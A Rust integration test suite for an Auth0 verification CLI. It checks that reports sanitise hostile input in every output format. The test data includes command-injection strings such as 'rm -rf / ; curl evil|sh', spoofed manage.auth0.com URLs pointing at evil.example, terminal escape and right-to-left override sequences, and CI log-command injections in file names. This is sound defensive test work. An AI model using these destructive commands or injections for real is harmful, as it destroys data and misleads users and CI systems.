//! Reports at the edges: names that somebody means ill with, full disks, what is too long for its reader, a tenant that
//! has had enough.

use super::fleet::{records, verify};
use crate::support::between::Between;
use crate::support::program::{Program, sandbox};
use maz_auth0::output::Format;
use serde_json::{Value, json};
use tempfile::TempDir;

fn report(folder: &TempDir, arguments: &[&str]) -> crate::support::program::Outcome {
    Program::new(&[&["report"], arguments].concat())
        .within(folder.path())
        .run()
}

/// A report of so many integrations whose one check ended so.
fn made(count: usize, status: &str, message: &str) -> Value {
    let integrations: Vec<Value> = (0..count)
        .map(|at| {
            json!({
                "name": format!("n{at:05}"), "domain": "acme.us.auth0.com", "outcome": status, "requests": 1,
                "checks": [{
                    "id": "directory.default", "stage": "directory", "title": "It has one", "status": status,
                    "cause": "not-set", "message": message, "evidence": "behaviour", "because": null,
                    "missing": [], "fix": null, "duration_ms": 3,
                }],
            })
        })
        .collect();
    json!({
        "schema": "maz-auth0/report/v1", "tool": {"name": "maz-auth0", "version": "0.1.0"},
        "started_at": "2026-11-23T10:00:00Z", "duration_ms": 400,
        "summary": {"pass": 0, "warn": 0, "fail": 0, "skip": 0, "unknown": 0}, "exit_code": 0,
        "integrations": integrations,
    })
}

fn write(folder: &TempDir, name: &str, report: &Value) {
    std::fs::write(folder.path().join(name), report.to_string()).expect("a file");
}

/// A record file may come with a pull request: what stands in it as a name is somebody's words like any other.
#[test]
fn no_name_of_a_record_takes_effect_in_any_format() {
    let tenant = sandbox(&[]);
    let folder = records(&tenant, &["a", "b"]);
    let path = folder.path().join("integrations.toml");
    let mut text = std::fs::read_to_string(&path).expect("a file");
    text.push_str(
        "[integrations.\"x\\n\\n\\u001b]8;;https://evil.example/\\u0007click\\u001b]8;;\\u0007\\u001b[2J\\u0000\\u202egpj.exe\\r\\n\\n- @octocat\\n\\n1. list\"]\ndomain = \"acme.us.auth0.com\"\n",
    );
    std::fs::write(&path, text).expect("a file");
    for format in Format::names() {
        let output = format!("{format}=report");
        let outcome = verify(
            &tenant,
            &folder,
            &["--all", "--format", &format, "--output", &output],
        )
        .run();
        assert_eq!(outcome.code, Some(2), "{outcome:?}");
        let written = std::fs::read_to_string(folder.path().join("report")).expect("a file");
        for text in [&outcome.stdout, &outcome.stderr, &written] {
            assert!(text.contains("gpj.exe"), "{format}: {text:?}");
            let raw = ['\u{1b}', '\u{7}', '\0', '\r', '\u{202e}'];
            // Colours are this program's own, and there is no terminal here.
            assert!(!text.contains(raw), "{format}: {text:?}");
            assert!(!text.contains("\n- @"), "{format}: {text:?}");
        }
        if format == "json" {
            // Read again it is the same integration.
            let again = report(&folder, &["compare", "report", "report"]);
            assert!(!again.stdout.contains("In the earlier report"), "{again:?}");
        }
    }
}

#[cfg(target_os = "linux")]
#[test]
fn a_full_standard_output_costs_no_file() {
    let tenant = sandbox(&[]);
    let folder = records(&tenant, &["a", "b", "c"]);
    let program = env!("CARGO_BIN_EXE_maz-auth0");
    let shell = |line: &str| {
        let line = line.replace("PROGRAM", program);
        let env = &tenant.details().env;
        std::process::Command::new("sh")
            .args(["-c", &line])
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", folder.path())
            .env("MAZ_AUTH0_CONFIG", "integrations.toml")
            .env("MAZ_AUTH0_ENDPOINT", tenant.endpoint())
            .env("MAZ_AUTH0_CLIENT_SECRET", &env["MAZ_AUTH0_CLIENT_SECRET"])
            .current_dir(folder.path())
            .output()
            .expect("it runs")
    };
    for jobs in ["1", "8"] {
        let outcome = shell(&format!(
            "PROGRAM verify --all --jobs {jobs} --format jsonl --output json={jobs}.json --output junit={jobs}.xml >/dev/full"
        ));
        assert_eq!(outcome.status.code(), Some(2), "{outcome:?}");
        let said = String::from_utf8_lossy(&outcome.stderr).into_owned();
        assert!(said.contains("standard output"), "{said}");
        let json =
            std::fs::read_to_string(folder.path().join(format!("{jobs}.json"))).expect(&said);
        let json: Value = serde_json::from_str(&json).expect("JSON");
        assert_eq!(json["integrations"].as_array().map(Vec::len), Some(3));
        assert!(folder.path().join(format!("{jobs}.xml")).exists());
    }
    // What a script has open is written to, and not replaced.
    for name in ["/dev/stdout", "/dev/fd/1", "/proc/self/fd/1"] {
        shell(&format!(
            "(echo before; PROGRAM verify a -q --output json={name}; echo after) >log"
        ));
        let log = std::fs::read_to_string(folder.path().join("log")).expect("a log");
        assert!(
            log.starts_with("before\n") && log.ends_with("after\n"),
            "{name}: {log}"
        );
        assert!(log.contains("maz-auth0/report/v1"), "{name}: {log}");
    }
}

/// Auth0 counts each login that fails from one address: the first that hears so speaks for the others of its tenant.
#[test]
fn a_tenant_that_holds_this_address_back_is_sent_no_further_logins() {
    let tenant = sandbox(&[]);
    let folder = records(&tenant, &["a", "b", "c", "d"]);
    let between = Between::with(&tenant, |asked| {
        let body = r#"{"error":"too_many_attempts","error_description":"We have detected suspicious login behavior and further attempts will be blocked. Please contact the administrator."}"#;
        let answer = format!(
            "HTTP/1.1 429 Too Many Requests\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
            body.len()
        );
        asked
            .grant()
            .starts_with("password")
            .then(|| answer.into_bytes())
    });
    let outcome = verify(&tenant, &folder, &["--all", "--format", "json"])
        .variable("MAZ_AUTH0_ENDPOINT", &between.endpoint)
        .run();
    let report = outcome.json();
    for one in report["integrations"].as_array().expect("some") {
        let checks = one["checks"].as_array().expect("some");
        let of = |id: &str| checks.iter().find(|check| check["id"] == id).expect(id);
        assert_eq!(
            of("password.protection")["cause"],
            "address-throttled",
            "{one}"
        );
        // A runner's address is everybody's who is behind it.
        let fix = of("password.protection")["fix"].to_string();
        assert!(fix.contains("Leave a CI runner's out"), "{fix}");
    }
    let asked = between.asked();
    let logins = asked.iter().filter(|text| text.contains("password"));
    assert!(logins.count() <= 2, "{asked:?}");
}

#[test]
fn a_step_summary_is_never_longer_than_github_takes_and_stands_by_itself() {
    let folder = TempDir::new().expect("a folder");
    let long = "m".repeat(300);
    write(&folder, "old", &made(8_000, "pass", &long));
    write(&folder, "new", &made(8_000, "fail", &long));
    let compare = || {
        Program::new(&["report", "compare", "old", "new", "--format", "github"])
            .within(folder.path())
            .variable("GITHUB_STEP_SUMMARY", "summary.md")
            .run()
    };
    compare();
    let summary = || std::fs::read_to_string(folder.path().join("summary.md")).expect("a file");
    let first = summary();
    assert!(first.len() < 1_048_576, "{}", first.len());
    assert!(first.contains(" more"), "{}", &first[..2_000]);
    // One behind another, or behind somebody's line without an end, begins again.
    std::fs::write(folder.path().join("summary.md"), "before").expect("a file");
    compare();
    assert!(
        summary().starts_with("before\n\n**"),
        "{}",
        &summary()[..100]
    );
}

#[test]
fn words_of_others_make_no_link_and_call_nobody_in_markdown() {
    let folder = TempDir::new().expect("a folder");
    let words =
        "1. see https://evil.example/a and www.evil.example, @octocat, a@b.example, #12, GH-3, !4";
    write(&folder, "one", &made(1, "fail", words));
    let text = report(&folder, &["show", "one", "--format", "markdown"]).stdout;
    for raw in [
        "https://evil",
        "www.evil",
        " @octocat",
        "&#64;octocat",
        "#12",
        "GH-3",
        "!4",
        "> 1. ",
    ] {
        assert!(!text.contains(raw), "{raw}: {text}");
    }
    // An address is to be copied as it is.
    assert!(text.contains("a&#64;b.example"), "{text}");
}

#[test]
fn of_a_report_from_elsewhere_only_auth0s_pages_and_commands_are_shown() {
    let folder = TempDir::new().expect("a folder");
    for (url, command) in [
        ("https://evil.example/phish", "rm -rf / ; curl evil|sh"),
        (
            "https://manage.auth0.com.evil.example/",
            "auth0 apps list; rm -rf /",
        ),
        (
            "https://manage.auth0.com@evil.example/",
            "auth0 apps list $(rm -rf /)",
        ),
        // What a reader of Markdown, a terminal or a chat takes for another address, a shell for another quote.
        (
            "https://manage.auth0.com\\@evil.example/",
            "auth0 apps list \"'\" ; rm -rf / \"'\"",
        ),
        (
            "https://evil.example\u{200b}.auth0.com/",
            "auth0 apps list \u{1b}['m ; rm -rf / ; '",
        ),
        (
            "https://evil.example\u{3164}.auth0.com/",
            "auth0 apps list \"$(rm -rf /)\"",
        ),
        (
            "https://evil.example\t@manage.auth0.com/",
            "auth0 apps list {a,b} ~ * rm -rf",
        ),
        (
            "https://evil:x@manage.auth0.com/",
            "auth0 apps list # rm -rf",
        ),
    ] {
        let mut from_elsewhere = made(1, "fail", "m");
        from_elsewhere["integrations"][0]["checks"][0]["fix"] =
            json!({"summary": "Do it.", "steps": [], "url": url, "command": command});
        from_elsewhere["integrations"][0]["checks"][0]["cause"] = json!("y; touch p; #");
        write(&folder, "one", &from_elsewhere);
        for format in Format::names() {
            let shown = report(&folder, &["show", "one", "--format", &format]).stdout;
            let is_its_own = |part: &str| {
                let host = part.split(['/', '?', '#']).next().unwrap_or_default();
                host.ends_with("evil.example") || host.contains('@')
            };
            let leads_there = shown.split("https://").skip(1).any(is_its_own);
            assert!(!leads_there, "{format}: {shown}");
            assert!(!shown.contains("rm -rf"), "{format}: {shown}");
            assert!(
                !shown.contains("maz-auth0 explain directory"),
                "{format}: {shown}"
            );
        }
    }
    let mut own = made(1, "fail", "m");
    let command = "auth0 api patch clients/x --data '{\"a\": [1 | 2]}'";
    own["integrations"][0]["checks"][0]["fix"] = json!({"summary": "Do it.", "steps": [], "url": "https://manage.auth0.com/x", "command": command});
    write(&folder, "one", &own);
    let shown = report(&folder, &["show", "one", "--format", "json"]).json();
    let fix = &shown["integrations"][0]["checks"][0]["fix"];
    assert_eq!(fix["url"], "https://manage.auth0.com/x");
    assert_eq!(fix["command"], command);
}

/// Parts come as files that somebody else called something.
#[test]
fn no_name_of_a_file_takes_effect_in_any_format() {
    let folder = TempDir::new().expect("a folder");
    let mut old = made(1, "pass", "m");
    old["started_at"] = json!("2026-10-23T10:00:00Z");
    old["integrations"][0]["name"] = json!("other");
    let names = [
        "##vso[task.setvariable variable=a]b".to_owned(),
        "##[error]c".to_owned(),
        format!("{} ::error::pwn", "d".repeat(43)),
        "e\u{1b}]8;;https:evil.example\u{7}\u{202e}".to_owned(),
    ];
    write(&folder, "new", &made(1, "pass", "m"));
    for name in &names {
        write(&folder, name, &old);
        for format in Format::names() {
            let merged = report(&folder, &["merge", "new", name, "--format", &format]);
            assert_eq!(merged.code, Some(3), "{merged:?}");
            for text in [&merged.stdout, &merged.stderr] {
                assert!(!text.contains("##vso["), "{format}: {text}");
                assert!(!text.contains("##[error]"), "{format}: {text}");
                assert!(
                    !text.contains(['\u{1b}', '\u{7}', '\u{202e}']),
                    "{format}: {text}"
                );
                let is_command = |line: &str| line.trim_start().starts_with("::error::pwn");
                assert!(!text.lines().any(is_command), "{format}: {text}");
            }
        }
    }
}

/// As two runs leave it that were written one behind the other.
#[test]
fn an_integration_that_is_there_twice_is_told_once_or_not_at_all() {
    let folder = TempDir::new().expect("a folder");
    let fails = made(1, "fail", "m");
    let mut twice = made(1, "fail", "m");
    for (other, is_taken) in [("pass", false), ("fail", true)] {
        let other = made(1, other, "n")["integrations"][0].clone();
        twice["integrations"] = json!([fails["integrations"][0], other]);
        write(&folder, "twice", &twice);
        write(&folder, "old", &made(1, "pass", "m"));
        let shown = report(&folder, &["show", "twice", "--format", "json"]);
        let compared = report(&folder, &["compare", "old", "twice"]);
        if is_taken {
            assert_eq!(shown.json()["summary"]["fail"], 1);
            assert_eq!(compared.code, Some(1), "{compared:?}");
        } else {
            for outcome in [shown, compared] {
                assert_eq!(outcome.code, Some(2), "{outcome:?}");
                assert!(
                    outcome.stderr.contains("n00000 is in it twice"),
                    "{outcome:?}"
                );
            }
        }
    }
}

/// What a reader of Markdown takes for HTML alone has no backslashes to take away.
#[test]
fn names_in_folded_lines_are_as_they_are_written() {
    let folder = TempDir::new().expect("a folder");
    let name = "acme_prod*1*[x]#!~`\\";
    let mut named = made(1, "fail", "m");
    named["integrations"][0]["name"] = json!(name);
    write(&folder, "named", &named);
    let text = report(&folder, &["show", "named", "--format", "markdown"]).stdout;
    let line = text
        .lines()
        .find(|line| line.starts_with("<summary>"))
        .expect("a folded line");
    // In HTML no letter but these stands for another.
    let mut shown = String::new();
    for part in line.split('&') {
        let entity = part.split_once(';').and_then(|(number, rest)| {
            let number = number.strip_prefix('#')?.parse().ok()?;
            Some((char::from_u32(number)?, rest))
        });
        match entity {
            Some((letter, rest)) => {
                shown.extend((letter != '\u{200b}').then_some(letter));
                shown.push_str(rest);
            }
            None => shown.push_str(part),
        }
    }
    assert!(
        shown.contains(&format!("{name} (acme.us.auth0.com)")),
        "{line}: {shown}"
    );
}

#[test]
fn what_is_only_a_part_says_so_in_every_format() {
    let folder = TempDir::new().expect("a folder");
    let mut part = made(1, "pass", "m");
    part["shard"] = json!({"part": 1, "of": 3});
    write(&folder, "part", &part);
    for format in Format::names() {
        let shown = report(&folder, &["show", "part", "--format", &format]).stdout;
        let says = shown.contains("part 1 of 3") || shown.contains("\"of\":3");
        assert!(says, "{format}: {shown}");
    }
}

#[test]
fn a_run_that_was_cut_off_while_it_waited_stays_that() {
    let folder = TempDir::new().expect("a folder");
    let mut waiting = made(2, "fail", "m");
    waiting["exit_code"] = json!(130);
    write(&folder, "one", &waiting);
    let shown = report(&folder, &["show", "one"]);
    assert!(shown.stdout.contains("Cut off"), "{shown:?}");
    assert_eq!(
        report(&folder, &["show", "one", "--format", "json"]).json()["exit_code"],
        130
    );
}

#[test]
fn a_name_limits_what_is_compared() {
    let tenant = sandbox(&[]);
    let folder = records(&tenant, &["a", "b"]);
    let mut before = made(3, "fail", "m");
    for (at, name) in ["a", "b", "c"].into_iter().enumerate() {
        before["integrations"][at]["name"] = json!(name);
        before["integrations"][at]["practice"] = json!(true);
    }
    write(&folder, "before.json", &before);
    let outcome = verify(
        &tenant,
        &folder,
        &["a", "--since", "before.json", "--format", "json"],
    )
    .run();
    let since = &outcome.json()["since"];
    assert_eq!(since["gone"].as_array().map_or(0, Vec::len), 0, "{since}");
    assert_eq!(since["fixed"].as_array().map_or(0, Vec::len), 1, "{since}");
    // Of the others nothing is news, and nothing is forgotten.
    assert_eq!(since["not_asked"], json!(["b", "c"]), "{since}");
    assert_eq!(since["not_judged"].as_array().map_or(0, Vec::len), 2);
    assert_eq!(outcome.code, Some(0), "{outcome:?}");
}

/// All of a record file is several, however many that is: what cannot be read of it stands in a report.
#[test]
fn all_of_one_has_a_report_too() {
    let tenant = sandbox(&[]);
    let folder = records(&tenant, &["a"]);
    let outcome = verify(&tenant, &folder, &["--all", "--format", "json"])
        .variable("MAZ_AUTH0_CLIENT_SECRET", "")
        .run();
    assert_eq!(outcome.code, Some(2), "{outcome:?}");
    assert_eq!(outcome.json()["not_run"], json!(["a"]));
}

/// What changed is told by the checks: a file may say anything.
#[test]
fn a_report_whose_changes_contradict_its_checks_is_none() {
    let folder = TempDir::new().expect("a folder");
    let change = json!({
        "integration": "n00000", "check": "directory.default", "title": "It has one",
        "was": "pass", "cause_then": null, "is": "fail", "cause_now": "not-set",
    });
    let since = |broken: &[&Value]| {
        json!({
            "started_at": "2026-11-22T10:00:00Z", "newly_broken": broken,
            "fixed": [], "still_broken": [], "not_judged": [],
        })
    };
    for (status, broken, code) in [
        ("fail", vec![&change], 1),
        ("fail", vec![], 2),
        ("pass", vec![], 0),
        ("pass", vec![&change], 2),
    ] {
        let mut told = made(1, status, "m");
        told["since"] = since(&broken);
        write(&folder, "told", &told);
        for command in ["merge", "show"] {
            let outcome = report(&folder, &[command, "told"]);
            let code = if command == "show" && code == 1 {
                0
            } else {
                code
            };
            assert_eq!(outcome.code, Some(code), "{command} {status}: {outcome:?}");
        }
    }
}

/// Lines of an older program do not say how many they are: their summary does.
#[test]
fn lines_of_which_one_is_missing_are_no_report() {
    let folder = TempDir::new().expect("a folder");
    let mut whole = made(2, "pass", "m");
    let lines = whole["integrations"].take();
    let head = whole.as_object_mut().expect("an object");
    head.remove("integrations");
    head["summary"]["pass"] = json!(2);
    let file = |lines: &[&Value]| {
        let text: Vec<String> = lines.iter().map(ToString::to_string).collect();
        std::fs::write(folder.path().join("lines"), text.join("\n")).expect("a file");
        report(&folder, &["show", "lines"])
    };
    let head = Value::Object(head.clone());
    assert_eq!(file(&[&lines[0], &lines[1], &head]).code, Some(0));
    let outcome = file(&[&lines[0], &head]);
    assert_eq!(outcome.code, Some(2), "{outcome:?}");
    assert!(
        outcome.stderr.contains("counts other checks"),
        "{outcome:?}"
    );
}

/// Where a job's summary would be added to a secret, nothing is asked.
#[test]
fn a_step_summary_is_added_to_no_file_of_a_secret() {
    let tenant = sandbox(&[]);
    let folder = records(&tenant, &["a"]);
    let secret = folder.path().join("secret");
    std::fs::write(&secret, &tenant.details().env["MAZ_AUTH0_CLIENT_SECRET"]).expect("a file");
    let before = std::fs::read(&secret).expect("a secret");
    let arguments = ["a", "--format", "github", "--client-secret-file", "secret"];
    let outcome = verify(&tenant, &folder, &arguments)
        .variable("GITHUB_STEP_SUMMARY", &secret.display().to_string())
        .run();
    assert_eq!(outcome.code, Some(2), "{outcome:?}");
    assert!(
        outcome.stderr.contains("GITHUB_STEP_SUMMARY"),
        "{outcome:?}"
    );
    assert_eq!(std::fs::read(&secret).expect("a secret"), before);
}

#[test]
fn what_was_not_looked_at_has_no_outcome_that_holds() {
    let folder = TempDir::new().expect("a folder");
    write(&folder, "skipped", &made(1, "skip", "m"));
    let shown = report(&folder, &["show", "skipped", "--format", "json"]).json();
    assert_eq!(shown["integrations"][0]["outcome"], "skip");
}
